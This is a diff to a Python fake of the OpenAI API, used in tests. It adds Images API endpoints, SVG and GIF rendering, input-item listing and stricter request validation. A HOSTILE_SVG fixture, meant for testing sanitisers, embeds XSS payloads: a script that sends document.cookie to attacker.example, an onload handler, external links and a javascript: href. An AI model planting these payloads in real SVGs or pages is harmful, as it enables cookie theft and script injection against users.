+    ``mask_param`` names the mask sent with it, if any; ``svg_author`` writes an SVG when ``svg.model`` is not set.
+    """
+
+    def param(name: str) -> str:
+        return _join(where, name)
+
+    rules = image_model_rules(model, param("model"))
+    size = settings.get("size")
+    width, height = image_size("auto" if size is None else size, model, param("size"))
+    output_format = settings.get("output_format") or "png"
+    background = settings.get("background") or "auto"
+    quality = settings.get("quality") or "auto"
+    if quality not in rules.qualities:
+        raise _invalid(f"Invalid value: '{quality}'. Supported values for {model} are: {_listed(rules.qualities)}.", param("quality"))
+    # background: "When using `transparent`, set the output format to `png` or `webp`."
+    if background == "transparent" and output_format not in ("png", "webp"):
+        raise _invalid(
+            f"Transparent backgrounds need output_format 'png' or 'webp', not '{output_format}'.",
+            param("background"),
+        )
+    compression = settings.get("output_compression")
+    # output_compression: "only supported ... with the `webp` or `jpeg` output formats" (types/image_generate_params.py);
+    # GIF output does not support "custom `output_compression`", SVG output "cannot use ... output compression".
+    if compression is not None and (output_format == "svg" or (output_format not in ("jpeg", "webp") and compression != 100)):
+        raise _invalid(f"output_compression is not supported with output_format '{output_format}'.", param("output_compression"))
+    partial_images = settings.get("partial_images") or 0
+    if partial_images and output_format in ("gif", "svg"):
+        raise _invalid(f"Partial images are not supported with output_format '{output_format}'.", param("partial_images"))
+    for name in ("frame_count", "frame_duration_ms"):
+        if settings.get(name) is not None and output_format != "gif":
+            raise _invalid(f"'{name}' requires output_format 'gif'.", param(name))
+    svg = settings.get("svg")
+    if svg is not None and output_format != "svg":
+        raise _invalid("'svg' requires output_format 'svg'.", param("svg"))
+    if mask_param is not None and output_format == "gif":
+        raise _invalid("GIF output does not support a mask.", mask_param)
+    # input_fidelity: "Supports `high` and `low` on `gpt-image-1.5`; `gpt-image-1-mini` supports only `low`. For
+    # `gpt-image-2`, omit this parameter." Both models that took it are retired.
+    if settings.get("input_fidelity") is not None:
+        raise _invalid(f"input_fidelity is not supported with model '{model}'.", param("input_fidelity"), "unsupported_parameter")
+    reasoning = (svg or {}).get("reasoning") or {}
+    return _ImageSpec(
+        width=width,
+        height=height,
+        output_format=output_format,
+        transparent=background == "transparent",
+        background="transparent" if background == "transparent" else "opaque",
+        # The real API reports the quality it actually used; "auto" resolves to medium here.
+        quality="medium" if quality == "auto" else quality,
+        compression=100 if compression is None else compression,
+        partial_images=partial_images,
+        action=settings.get("action") or "auto",
+        model=model,
+        frame_count=settings.get("frame_count") or DEFAULT_GIF_FRAMES,
+        frame_ms=DEFAULT_GIF_FRAME_MS if settings.get("frame_duration_ms") is None else settings["frame_duration_ms"],
+        svg_author=((svg or {}).get("model") or svg_author) if output_format == "svg" else None,
+        svg_effort=reasoning.get("effort"),
+    )
 
 
 @dataclass
@@ -217,6 +858,19 @@ class _Plan:
     previous: dict[str, Any] | None
     background: bool = False
     completion_window: str = "soonest"
+
+
+@dataclass
+class _ImagesPlan:
+    """A checked Images API request (POST /v1/images/generations or /v1/images/edits)."""
+
+    edit: bool
+    prompt: str
+    spec: _ImageSpec
+    n: int
+    stream: bool
+    inputs: list[Image.Image]
+    safety_identifier: str | None  # the effective one: "the non-empty `safety_identifier` ... or the deprecated `user`"
 
 
 class _Job:
@@ -307,6 +961,68 @@ def _encode(image: Image.Image, output_format: str, compression: int, *, png_lev
     return buffer.getvalue()
 
 
+# What ``FakeOpenAI.hostile_svg`` plants in every SVG result: each is something an SVG sanitiser must take out
+# before the picture is shown in a browser (a script, an event handler, and links that fetch from elsewhere or
+# run code). Each keeps the document well-formed XML, so only a sanitiser, not a parser, stops it.
+HOSTILE_SVG = {
+    "script": "<script>fetch('https://attacker.example/steal?c=' + document.cookie)</script>",
+    "onload": 'onload="alert(document.domain)"',
+    "external_href": '<image href="https://attacker.example/tracker.png" x="0" y="0" width="1" height="1"/>',
+    "external_xlink_href": '<use xlink:href="https://attacker.example/sprite.svg#icon"/>',
+    "javascript_href": '<a href="javascript:alert(1)"><text x="8" y="24">open</text></a>',
+}
+
+
+def render_svg(prompt: str, width: int, height: int, *, hostile: bool = False) -> bytes:
+    """A small SVG document (UTF-8) whose colours depend on the prompt, as an ``output_format`` "svg" result.
+
+    ``hostile`` plants every ``HOSTILE_SVG`` part in it.
+    """
+    digest = hashlib.sha256(prompt.encode("utf-8")).digest()
+    fills = ["#{:02x}{:02x}{:02x}".format(*_colour(digest, 3 * index)) for index in range(4)]
+    onload = " " + HOSTILE_SVG["onload"] if hostile else ""
+    w, h = width, height
+    lines = [
+        '<?xml version="1.0" encoding="UTF-8"?>',
+        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        f'width="{w}" height="{h}" viewBox="0 0 {w} {h}"{onload}>',
+        f"<title>{escape(prompt[:200])}</title>",
+        f'<rect width="{w}" height="{h}" fill="{fills[0]}"/>',
+        f'<circle cx="{w / 2:g}" cy="{h / 2:g}" r="{min(w, h) * 0.3:g}" fill="{fills[1]}"/>',
+        f'<rect x="{w * 0.05:g}" y="{h * 0.05:g}" width="{w * 0.3:g}" height="{h * 0.25:g}" fill="{fills[2]}"/>',
+        f'<polygon points="{w * 0.5:g},{h * 0.55:g} {w * 0.95:g},{h * 0.95:g} {w * 0.55:g},{h * 0.95:g}" fill="{fills[3]}"/>',
+    ]
+    if hostile:
+        lines += [HOSTILE_SVG[name] for name in ("script", "external_href", "external_xlink_href", "javascript_href")]
+    lines.append("</svg>")
+    return "\n".join(lines).encode("utf-8")
+
+
+def render_gif(prompt: str, width: int, height: int, *, frames: int = DEFAULT_GIF_FRAMES, frame_ms: int = DEFAULT_GIF_FRAME_MS) -> bytes:
+    """An animated GIF of ``frames`` frames, a disc crossing a prompt-coloured field, ``frame_ms`` per frame.
+
+    The delay is rounded to 10 ms and capped at 655,350 ms, as the Images API documents it; every frame differs,
+    so no encoder merges two of them.
+    """
+    digest = hashlib.sha256(prompt.encode("utf-8")).digest()
+    background, fill = _colour(digest, 0), _colour(digest, 3)
+    if fill == background:
+        fill = tuple(255 - channel for channel in background)  # type: ignore[assignment]
+    radius = max(1.0, min(width, height) * 0.12)
+    pictures = []
+    for index in range(frames):
+        # Drawn straight in palette mode (index 0 the field, 1 the disc): no colour quantising per frame.
+        picture = Image.new("P", (width, height), 0)
+        picture.putpalette([*background, *fill])
+        x = radius + (width - 2 * radius) * index / max(1, frames - 1)
+        ImageDraw.Draw(picture).ellipse((x - radius, height / 2 - radius, x + radius, height / 2 + radius), fill=1)
+        pictures.append(picture)
+    delay = min(MAX_GIF_FRAME_MS, round(frame_ms / 10) * 10)
+    buffer = io.BytesIO()
+    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=delay, loop=0)
+    return buffer.getvalue()
+
+
 # Grain share of a photo-like picture: 0.04 of uniform noise gives about 1.6 MB as PNG at 1024x1024, in the
 # 1.5-2 MB that OpenAI's own 1024x1024 PNGs weigh.
 _PHOTO_GRAIN = 0.04
@@ -368,6 +1084,25 @@ def _image_tokens(quality: str, width: int, height: int) -> int:
     long_edge, short_edge = max(width, height), min(width, height)
     aspect = (2 * factor * short_edge + long_edge) // (2 * long_edge)
     return math.ceil(factor * aspect * (2_000_000 + width * height) / 4_000_000)
+
+
+def _spec_tokens(spec: _ImageSpec) -> int:
+    """Image output tokens for one final image of ``spec``: a GIF pays for each of its frames."""
+    frames = spec.frame_count if spec.output_format == "gif" else 1
+    return frames * _image_tokens(spec.quality, spec.width, spec.height)
+
+
+def _svg_usage(spec: _ImageSpec, prompt: str) -> dict[str, Any]:
+    """``svg_usage`` of an SVG result (types/images_response.py SvgUsage; ImageGenerationCallSvgUsage in Responses)."""
+    reasoning = 0 if spec.svg_effort == "none" else 64
+    input_tokens, output_tokens = 40 + len(prompt) // 4, 400 + reasoning
+    return {
+        "input_tokens": input_tokens,
+        "model": spec.svg_author,
+        "output_tokens": output_tokens,
+        "reasoning_tokens": reasoning,
+        "total_tokens": input_tokens + output_tokens,
+    }
 
 
 def _new_id(prefix: str) -> str:
@@ -812,9 +1547,12 @@ class _Handler(BaseHTTPRequestHandler):
         method, path = request.method, request.path.rstrip("/") or "/"
         response_match = _RESPONSE_PATH_RE.match(path)
         cancel_match = _CANCEL_PATH_RE.match(path)
+        items_match = _INPUT_ITEMS_PATH_RE.match(path)
         file_match = _FILE_PATH_RE.match(path)
         if path == "/v1/responses" and method == "POST":
             route: Callable[[], None] = partial(self._post_responses, request)
+        elif path in ("/v1/images/generations", "/v1/images/edits") and method == "POST":
+            route = partial(self._post_images, request, edit=path.endswith("edits"))
         elif path == "/v1/files" and method == "POST":
             route = partial(self._post_file, request)
         elif path == "/v1/models" and method == "GET":
@@ -823,7 +1561,9 @@ class _Handler(BaseHTTPRequestHandler):
             response_id = unquote(response_match.group(1))
             route = partial(self._response_by_id, response_id, delete=method == "DELETE", query=request.query)
         elif cancel_match and method == "POST":
-            route = partial(self._cancel, unquote(cancel_match.group(1)))
+            route = partial(self._cancel, unquote(cancel_match.group(1)), request)
+        elif items_match and method == "GET":
+            route = partial(self._input_items, unquote(items_match.group(1)), request.query)
         elif file_match and method == "GET":
             route = partial(self._file_by_id, unquote(file_match.group(1)), content=bool(file_match.group(2)))
         else:
@@ -847,18 +1587,9 @@ class _Handler(BaseHTTPRequestHandler):
 
     def _response_by_id(self, response_id: str, *, delete: bool, query: str = "") -> None:
         # The SDK sends retrieve(stream=True, starting_after=N) as `?stream=true&starting_after=N`
-        # (resources/responses/responses.py, Responses.retrieve).
-        params = parse_qs(query)
-        if not delete and params.get("stream", [""])[-1].lower() == "true":
-            after = params.get("starting_after", ["-1"])[-1]
-            try:
-                starting_after = int(after)
-            except ValueError:
-                raise _invalid(
-                    f"Invalid type for 'starting_after': expected an integer, got '{after}'.",
-                    "starting_after",
-                    "invalid_type",
-                ) from None
+        # (resources/responses/responses.py, Responses.retrieve); delete takes no parameters.
+        params = _query_body(query, {} if delete else RETRIEVE_FIELDS)
+        if params.get("stream") is True:
             job = self.fake._job(response_id)
             if job is None:
                 if self.fake._get_response(response_id) is None:
@@ -867,7 +1598,7 @@ class _Handler(BaseHTTPRequestHandler):
                     "Only responses created with background set to true can be streamed after they were created.",
                     "stream",
                 )
-            self._follow(job, after=starting_after, drop=self.fake._pop_drop())
+            self._follow(job, after=params.get("starting_after", -1), drop=self.fake._pop_drop())
             return
         stored = self.fake._get_response(response_id, delete=delete)
         if stored is None:
@@ -877,8 +1608,38 @@ class _Handler(BaseHTTPRequestHandler):
         else:
             self._send_json(200, stored)
 
-    def _cancel(self, response_id: str) -> None:
+    def _cancel(self, response_id: str, request: RecordedRequest) -> None:
+        # responses.cancel takes no parameters: the SDK posts an empty body.
+        if request.body.strip() not in (b"", b"{}"):
+            if request.json is None:
+                raise ApiError(400, "We could not parse the JSON body of your request.", code="invalid_json")
+            check_fields(request.json, {})
         self._send_json(200, self.fake._cancel(response_id))
+
+    def _input_items(self, response_id: str, query: str) -> None:
+        """GET /v1/responses/{id}/input_items: the items of the request that made the response, a page at a time."""
+        params = _query_body(query, INPUT_ITEMS_FIELDS)
+        items = self.fake._input_items_of(response_id)
+        if items is None:
+            raise _not_found(response_id)
+        if params.get("order", "desc") == "desc":
+            items = items[::-1]
+        if "after" in params:
+            ids = [item["id"] for item in items]
+            if params["after"] not in ids:
+                raise _invalid(f"No input item with id '{params['after']}' in response '{response_id}'.", "after")
+            items = items[ids.index(params["after"]) + 1 :]
+        page = items[: params.get("limit", 20)]
+        self._send_json(
+            200,
+            {
+                "object": "list",
+                "data": page,
+                "first_id": page[0]["id"] if page else None,
+                "last_id": page[-1]["id"] if page else None,
+                "has_more": len(items) > len(page),
+            },
+        )
 
     def _file_by_id(self, file_id: str, *, content: bool) -> None:
         if not content:
@@ -944,6 +1705,24 @@ class _Handler(BaseHTTPRequestHandler):
             self._send_json(200, response)
             return
         self._stream(plan, response, cut=kind == "stream_cut", drop=fake._pop_drop())
+
+    # ---- POST /v1/images/generations and /v1/images/edits
+
+    def _post_images(self, request: RecordedRequest, *, edit: bool) -> None:
+        fake = self.fake
+        fake._sleep(fake.latency)
+        failure = fake._pop_failure()
+        if failure is not None:
+            raise failure
+        plan = fake._images_plan(request, edit=edit)
+        images = fake._images_results(plan)
+        if not plan.stream:
+            self._send_json(200, fake._images_response(plan, images))
+            return
+        self._start_sse()
+        for event in fake._images_events(plan, images):
+            self._send_chunk(_sse_frame(event))
+        self._send_chunk(b"")
 
     def _post_background(self, plan: _Plan, outcome: _Outcome | None) -> None:
         """Start a background response, then answer it queued, or follow it as a stream."""
@@ -1016,7 +1795,7 @@ class _Handler(BaseHTTPRequestHandler):
 
 
 class FakeOpenAI:
-    """A local fake of the OpenAI API (Responses + image_generation tool, Files)."""
+    """A local fake of the OpenAI API (Responses + image_generation tool, Images, Files), as strict as the real one."""
 
     def __init__(self, *, latency: float = 0.0, port: int = 0, render_seconds: float = 0.2, photo_like: bool = False) -> None:
         self.latency = latency  # seconds before answering POST /v1/responses; settable any time
@@ -1049,6 +1828,8 @@ class FakeOpenAI:
         self._refusing_background = False
         self._json_streams = False
         self._file_objects: dict[str, dict[str, Any]] = {}
+        self._inputs: dict[str, list[dict[str, Any]]] = {}  # response id -> its request's input items
+        self._hostile_svg = False
         self._stopping = threading.Event()
         self._server: _Server | None = None
         self._thread: threading.Thread | None = None
@@ -1107,6 +1888,42 @@ class FakeOpenAI:
         with self._lock:
             return [r.json for r in self.requests if r.method == "POST" and r.path == "/v1/responses" and r.json is not None]
 
+    def image_requests(self, kind: str | None = None) -> list[dict[str, Any]]:
+        """The fields of every Images API request (``kind`` "generations" or "edits" for one endpoint), in order.
+
+        A JSON body as it came; a multipart form as the body it stands for: ``svg[model]`` nested as
+        ``{"svg": {"model": ...}}``, numbers and booleans in their types, ``image`` a list and ``mask`` and
+        ``markup`` single ``FormFile`` values.
+        """
+        wanted = {"generations", "edits"} if kind is None else {kind}
+        with self._lock:
+            received = [
+                r for r in self.requests if r.method == "POST" and r.path.rsplit("/", 1)[-1] in wanted and r.path.startswith("/v1/images/")
+            ]
+        fields = []
+        for request in received:
+            if request.json is not None:
+                fields.append(request.json)
+                continue
+            try:
+                parts = _form_parts(request)
+            except ApiError:
+                continue
+            try:
+                fields.append(form_body(parts, IMAGE_EDIT_FIELDS))
+            except ApiError:  # a value of the wrong type: every field as text
+                fields.append(form_body(parts, {}))
+        return fields
+
+    def hostile_svg(self, on: bool = True) -> None:
+        """While on, every SVG result (Responses and Images API) carries each ``HOSTILE_SVG`` part: a ``<script>``,
+        an ``onload`` handler, ``href`` and ``xlink:href`` links to another site and a ``javascript:`` link.
+
+        The document stays well-formed, as an SVG author model could write it; a sanitiser has to take them out.
+        """
+        with self._lock:
+            self._hostile_svg = on
+
     def fail_next(
         self,
         status: int,
@@ -1118,7 +1935,7 @@ class FakeOpenAI:
         count: int = 1,
         headers: dict[str, str] | None = None,
     ) -> None:
-        """Make the next ``count`` POST /v1/responses answer this error (after latency, before validation)."""
+        """Make the next ``count`` POST /v1/responses or /v1/images/* answer this error (after latency, before validation)."""
         text = message or _DEFAULT_MESSAGES.get(code or "", HTTPStatus(status).phrase)
         with self._lock:
             for _ in range(count):
@@ -1308,6 +2125,7 @@ class FakeOpenAI:
         job.thread = threading.Thread(target=self._run_job, args=(job,), name=name, daemon=True)
         with self._changed:
             self._jobs[job.id] = job
+            self._inputs[job.id] = _input_items(plan.body.get("input"))
             self._emit(
                 job,
                 queued,
@@ -1453,6 +2271,14 @@ class FakeOpenAI:
         if plan.store:
             with self._lock:
                 self.responses[response["id"]] = response
+                self._inputs[response["id"]] = _input_items(plan.body.get("input"))
+
+    def _input_items_of(self, response_id: str) -> list[dict[str, Any]] | None:
+        """The input items of a stored response, oldest first; None when it is not stored (or forgotten)."""
+        with self._lock:
+            if response_id not in self.responses:
+                return None
+            return list(self._inputs.get(response_id, []))
 
     # ---- files
 
@@ -1514,6 +2340,165 @@ class FakeOpenAI:
                 }
             return obj
 
+    # ---- the Images API
+
+    def _images_plan(self, request: RecordedRequest, *, edit: bool) -> _ImagesPlan:
+        """A checked POST /v1/images/generations (JSON) or /v1/images/edits (multipart) request."""
+        rules = IMAGE_EDIT_FIELDS if edit else IMAGE_GENERATE_FIELDS
+        if edit:
+            if not request.headers.get("content-type", "").startswith("multipart/form-data"):
+                raise _invalid("Expected a multipart/form-data body.", None, None)
+            body = form_body(_form_parts(request), rules)
+        elif request.json is None:
+            raise ApiError(400, "We could not parse the JSON body of your request.", code="invalid_json")
+        else:
+            body = request.json
+        check_fields(body, rules)
+        for name in ("prompt", "image") if edit else ("prompt",):
+            if not body.get(name):
+                raise _invalid(f"Missing required parameter: '{name}'.", name, "missing_required_parameter")
+        model = body.get("model")
+        if not model:
+            # model: "Specify a model explicitly." (types/image_generate_params.py)
+            raise _invalid("Missing required parameter: 'model'. Specify a GPT image model.", "model", "missing_required_parameter")
+        for legacy in ("response_format", "style"):
+            # "Legacy ... parameter for retired image models. Unsupported for GPT image models"
+            if body.get(legacy) is not None:
+                raise _invalid(f"Unsupported parameter: '{legacy}' is not supported with model '{model}'.", legacy, "unsupported_parameter")
+        svg = body.get("svg")
+        if not edit and svg is not None and not svg.get("model"):
+            raise _invalid("Missing required parameter: 'svg.model'.", "svg.model", "missing_required_parameter")
+        mask = body.get("mask")
+        spec = image_spec(body, where="", model=model, mask_param="mask" if mask is not None else None, svg_author=DEFAULT_SVG_AUTHOR)
+        n = body.get("n") or 1
+        stream = body.get("stream") is True
+        # svg: "SVG generation requires n=1 and does not support streaming"; frame_count: "GIF output does not
+        # support streaming".
+        if spec.output_format == "svg" and n != 1:
+            raise _invalid(f"SVG output requires n=1, not n={n}.", "n")
+        if spec.output_format in ("svg", "gif") and stream:
+            raise _invalid(f"{spec.output_format.upper()} output does not support streaming.", "stream")
+        inputs = self._edit_images(body, model) if edit else []
+        return _ImagesPlan(
+            edit=edit,
+            prompt=body["prompt"],
+            spec=dataclasses.replace(spec, action="edit" if edit else "generate"),
+            n=n,
+            stream=stream,
+            inputs=inputs,
+            safety_identifier=body.get("safety_identifier") or body.get("user") or None,
+        )
+
+    def _edit_images(self, body: dict[str, Any], model: str) -> list[Image.Image]:
+        """The decoded ``image`` files of an edit, with its ``mask`` and ``markup`` checked against the first."""
+        files: list[FormFile] = body["image"]
+        if len(files) > MAX_EDIT_IMAGES:
+            raise _invalid(f"Too many images: {len(files)}. You can provide up to {MAX_EDIT_IMAGES}.", "image")
+        pictures = []
+        for file in files:
+            if len(file.data) >= MAX_EDIT_IMAGE_BYTES:
+                raise _invalid("Each image must be less than 50MB.", "image", "image_too_large")
+            picture = _decode_image(file.data, "image")
+            if picture.format not in ("PNG", "WEBP", "JPEG"):
+                raise _invalid(f"Invalid image format {picture.format}: use png, webp or jpg.", "image", "invalid_image_format")
+            pictures.append(picture)
+        first = pictures[0]
+        mask, markup = body.get("mask"), body.get("markup")
+        if mask is not None:
+            # mask: "Must be a valid PNG file, less than 4MB, and have the same dimensions as `image`."
+            if len(mask.data) >= MAX_MASK_BYTES:
+                raise _invalid("The mask must be less than 4MB.", "mask", "image_too_large")
+            picture = _decode_image(mask.data, "mask")
+            if picture.format != "PNG" or "A" not in picture.getbands():
+                raise _invalid("The mask must be a PNG with an alpha channel.", "mask", "invalid_image_format")
+            if picture.size != first.size:
+                raise _invalid(f"The mask is {picture.width}x{picture.height}; the image is {first.width}x{first.height}.", "mask")
+        if markup is not None:
+            # markup: "A transparent PNG overlaid on the first image ... Must match that image's dimensions after
+            # orientation and contain transparent pixels. Supports GPT Image 2.5. Cannot be combined with mask."
+            if not IMAGE_MODELS[model].markup:
+                raise _invalid(f"markup is not supported with model '{model}'.", "markup", "unsupported_parameter")
+            if mask is not None:
+                raise _invalid("markup cannot be combined with mask.", "markup")
+            picture = _decode_image(markup.data, "markup")
+            if picture.format != "PNG":
+                raise _invalid("markup must be a PNG.", "markup", "invalid_image_format")
+            upright = ImageOps.exif_transpose(first)
+            if picture.size != upright.size:
+                raise _invalid(f"markup is {picture.width}x{picture.height}; the image is {upright.width}x{upright.height}.", "markup")
+            if picture.convert("RGBA").getchannel("A").getextrema()[0] != 0:
+                raise _invalid("markup must contain transparent pixels.", "markup")
+        return pictures
+
+    def _images_results(self, plan: _ImagesPlan) -> list[bytes]:
+        inset = plan.inputs[0] if plan.inputs else None
+        return [self._render(plan.spec, plan.prompt if n == 0 else f"{plan.prompt} #{n + 1}", inset) for n in range(plan.n)]
+
+    def _images_usage(self, plan: _ImagesPlan, images: int) -> dict[str, Any]:
+        text, pictures = 10 + len(plan.prompt) // 4, 1024 * len(plan.inputs)
+        output = _spec_tokens(plan.spec) * images
+        return {
+            "input_tokens": text + pictures,
+            "input_tokens_details": {"image_tokens": pictures, "text_tokens": text},
+            "output_tokens": output,
+            "output_tokens_details": {"image_tokens": output, "text_tokens": 0},
+            "total_tokens": text + pictures + output,
+        }
+
+    def _images_response(self, plan: _ImagesPlan, images: list[bytes]) -> dict[str, Any]:
+        """The ImagesResponse (types/images_response.py) for ``images``."""
+        spec = plan.spec
+        answer: dict[str, Any] = {
+            "created": int(time.time()),
+            "background": spec.background,
+            "data": [{"b64_json": base64.b64encode(image).decode()} for image in images],
+            "output_format": spec.output_format,
+            "quality": spec.quality,
+            "size": spec.size,
+            "usage": self._images_usage(plan, len(images)),
+        }
+        if spec.svg_author is not None:
+            answer["svg_usage"] = _svg_usage(spec, plan.prompt)
+        if plan.safety_identifier:
+            answer["safety_identifier"] = plan.safety_identifier
+        return answer
+
+    def _images_events(self, plan: _ImagesPlan, images: list[bytes]) -> Iterator[dict[str, Any]]:
+        """The stream of an Images API call: each image's partial images, then its completed event
+        (types/image_gen_stream_event.py and image_edit_stream_event.py)."""
+        spec = plan.spec
+        prefix = "image_edit" if plan.edit else "image_generation"
+        common = {"background": spec.background, "output_format": spec.output_format, "quality": spec.quality, "size": spec.size}
+        scale = min(1.0, _PARTIAL_MAX_EDGE / max(spec.width, spec.height))
+        for image in images:
+            for n in range(spec.partial_images):
+                partial = render_image(
+                    plan.prompt,
+                    max(1, round(spec.width * scale)),
+                    max(1, round(spec.height * scale)),
+                    spec.output_format,
+                    transparent=spec.transparent,
+                    compression=spec.compression,
+                    detail=n + 1,
+                )
+                yield {
+                    "type": f"{prefix}.partial_image",
+                    "b64_json": base64.b64encode(partial).decode(),
+                    "created_at": int(time.time()),
+                    "partial_image_index": n,
+                    **common,
+                }
+            completed = {
+                "type": f"{prefix}.completed",
+                "b64_json": base64.b64encode(image).decode(),
+                "created_at": int(time.time()),
+                "usage": self._images_usage(plan, 1),
+                **common,
+            }
+            if plan.safety_identifier:
+                completed["safety_identifier"] = plan.safety_identifier
+            yield completed
+
     # ---- request validation
 
     def _load_image(self, ref: dict[str, Any], param: str) -> Image.Image | None:
@@ -1542,7 +2527,11 @@ class FakeOpenAI:
         return _decode_image(data, param)
 
     def _read_input(self, value: Any) -> tuple[str, list[Image.Image]]:
-        """Return the prompt text (last user message) and every decodable input image."""
+        """Return the prompt text (last user message) and every decodable input image.
+
+        Message items and their content parts are checked field by field (``MESSAGE_FIELDS``,
+        ``CONTENT_PART_FIELDS``); other item types (function call outputs, item references, ...) are passed over.
+        """
         if value is None:
             return "", []
         if isinstance(value, str):
@@ -1551,32 +2540,50 @@ class FakeOpenAI:
             raise _invalid("Invalid type for 'input': expected a string or an array.", "input", "invalid_type")
         prompt = ""
         images: list[Image.Image] = []
-        for item in value:
+        for index, item in enumerate(value):
+            where = f"input[{index}]"
             if not isinstance(item, dict):
                 raise _invalid("Invalid type for 'input' item: expected an object.", "input", "invalid_type")
             if item.get("type", "message") != "message":
                 continue
+            check_fields(item, MESSAGE_FIELDS, where)
             content = item.get("content")
             texts: list[str] = []
             if isinstance(content, str):
                 texts.append(content)
             elif isinstance(content, list):
-                for part in content:
+                for number, part in enumerate(content):
                     if not isinstance(part, dict):
                         raise _invalid("Invalid content part: expected an object.", "input", "invalid_type")
-                    if part.get("type") == "input_text" and isinstance(part.get("text"), str):
-                        texts.append(part["text"])
-                    elif part.get("type") == "input_image":
+                    part_where = f"{where}.content[{number}]"
+                    kind = part.get("type")
+                    if kind not in CONTENT_PART_FIELDS:
+                        supported = _listed(tuple(CONTENT_PART_FIELDS))
+                        raise _invalid(f"Invalid value: '{kind}'. Supported values are: {supported}.", f"{part_where}.type")
+                    check_fields(part, CONTENT_PART_FIELDS[kind], part_where)
+                    if kind == "input_text":
+                        texts.append(part.get("text", ""))
+                    elif kind == "input_image":
                         image = self._load_image(part, "input")
                         if image is not None:
                             images.append(image)
+            else:
+                raise _invalid("Invalid type for 'content': expected a string or an array.", f"{where}.content", "invalid_type")
             if item.get("role") == "user":
                 prompt = "\n".join(texts)
         return prompt, images
 
-    def _read_tool(self, tools: list[Any], tool_choice: Any) -> tuple[list[Any], _ImageSpec | None]:
-        """Validate the first image_generation tool; return echoed tools (defaults filled) and its spec."""
-        index = next((i for i, t in enumerate(tools) if isinstance(t, dict) and t.get("type") == "image_generation"), None)
+    def _read_tools(self, tools: list[Any], tool_choice: Any, outer_model: str) -> tuple[list[Any], _ImageSpec | None]:
+        """Check every tool; return the tools echoed (the image tool's defaults filled in) and the image tool's spec."""
+        for position, tool in enumerate(tools):
+            param = f"tools[{position}]"
+            if not isinstance(tool, dict):
+                raise _invalid(f"Invalid type for '{param}': expected an object.", param, "invalid_type")
+            if tool.get("type") not in TOOL_TYPES:
+                raise _invalid(f"Invalid value: '{tool.get('type')}'. Supported values are: {_listed(TOOL_TYPES)}.", f"{param}.type")
+            if tool["type"] == "image_generation":
+                check_fields(tool, IMAGE_TOOL_FIELDS, param)
+        index = next((i for i, t in enumerate(tools) if t.get("type") == "image_generation"), None)
         if index is None:
             forced = tool_choice == "required" or (
                 isinstance(tool_choice, dict)
@@ -1596,75 +2603,30 @@ class FakeOpenAI:
             return tools, None
         tool = tools[index]
         param = f"tools[{index}]"
-
         model = tool.get("model", DEFAULT_IMAGE_MODEL)
-        if not isinstance(model, str) or not model:
-            raise _invalid("Invalid type for 'model': expected a non-empty string.", f"{param}.model", "invalid_type")
-
-        size = tool.get("size", "auto")
-        if not isinstance(size, str):
-            raise _invalid("Invalid type for 'size': expected a string.", f"{param}.size", "invalid_type")
-        try:
-            canonical = image_models.validate_size(size, model)
-        except InvalidInput:
-            accepted = image_models.accepted_sizes_text(model)
-            raise _invalid(f"Invalid size '{size}'. {accepted}.", f"{param}.size") from None
-        parsed = image_models.parse_size(canonical)
-        width, height = (parsed.width, parsed.height) if parsed else (1024, 1024)  # "auto" renders 1024x1024
-
-        output_format = _choice(tool, "output_format", "png", image_models.OUTPUT_FORMATS, param)
-        background = _choice(tool, "background", "auto", image_models.BACKGROUNDS, param)
-        combination = image_models.ImageOptions(background=background, output_format=output_format)
-        try:
-            image_models.validate_options(combination, model)  # no transparent JPEG, as image_models judges it
-        except InvalidInput:
-            raise _invalid(
-                f"Transparent background is not supported for output_format '{output_format}'; use png or webp.",
-                f"{param}.background",
-            ) from None
-        quality = _choice(tool, "quality", "auto", image_models.qualities_for(model), param, model=model)
-        moderation = _choice(tool, "moderation", "auto", image_models.MODERATIONS, param)
-        compression = tool.get("output_compression", 100)
-        if not isinstance(compression, int) or isinstance(compression, bool) or not 0 <= compression <= 100:
-            raise _invalid("output_compression must be an integer between 0 and 100.", f"{param}.output_compression")
-        partial_images = tool.get("partial_images", 0)
-        if not isinstance(partial_images, int) or isinstance(partial_images, bool) or not 0 <= partial_images <= 3:
-            raise _invalid("partial_images must be an integer between 0 and 3.", f"{param}.partial_images")
-        action = tool.get("action", "auto")
-        if action not in ("generate", "edit", "auto"):
-            raise _invalid(f"Invalid action '{action}'.", f"{param}.action")
+        if not model:
+            raise _invalid("Invalid value for 'model': expected a non-empty string.", f"{param}.model")
         mask = tool.get("input_image_mask")
+        # SVG: "When SVG model selection is enabled, omitting this object uses the outer response model."
+        spec = image_spec(tool, where=param, model=model, mask_param=f"{param}.input_image_mask" if mask else None, svg_author=outer_model)
         if isinstance(mask, dict):
             self._load_image(mask, f"{param}.input_image_mask")
 
         echoed = dict(tool)
         for key, default in (
             ("model", model),
-            ("size", size),
-            ("quality", quality),
-            ("background", background),
-            ("output_format", output_format),
-            ("output_compression", compression),
-            ("partial_images", partial_images),
-            ("action", action),
-            ("moderation", moderation),
+            ("size", "auto"),
+            ("quality", "auto"),
+            ("background", "auto"),
+            ("output_format", "png"),
+            ("output_compression", 100),
+            ("partial_images", 0),
+            ("action", "auto"),
+            ("moderation", "auto"),
         ):
             echoed.setdefault(key, default)
         echoed_tools = list(tools)
         echoed_tools[index] = echoed
-        spec = _ImageSpec(
-            width=width,
-            height=height,
-            output_format=output_format,
-            transparent=background == "transparent",
-            background="transparent" if background == "transparent" else "opaque",
-            # The real API reports the quality it actually used; "auto" resolves to medium here.
-            quality="medium" if quality == "auto" else quality,
-            compression=compression,
-            partial_images=partial_images,
-            action=action,
-            model=model,
-        )
         return echoed_tools, spec
 
     def _refuse_background(self, body: dict[str, Any]) -> None:
@@ -1679,24 +2641,8 @@ class FakeOpenAI:
     def _background_settings(self, body: dict[str, Any]) -> tuple[bool, str]:
         """``background`` and ``background_options.completion_window``, checked against each other and the body."""
         background = body.get("background")
-        if background not in (None, True, False):
-            raise _invalid("Invalid type for 'background': expected a boolean.", "background", "invalid_type")
-        options = body.get("background_options")
-        if options is None:
-            options = {}
-        if not isinstance(options, dict):
-            raise _invalid("Invalid type for 'background_options': expected an object.", "background_options", "invalid_type")
-        window = options.get("completion_window", "soonest")
+        window = (body.get("background_options") or {}).get("completion_window", "soonest")
         param = "background_options.completion_window"
-        if window not in COMPLETION_WINDOWS:
-            allowed = ", ".join(COMPLETION_WINDOWS)
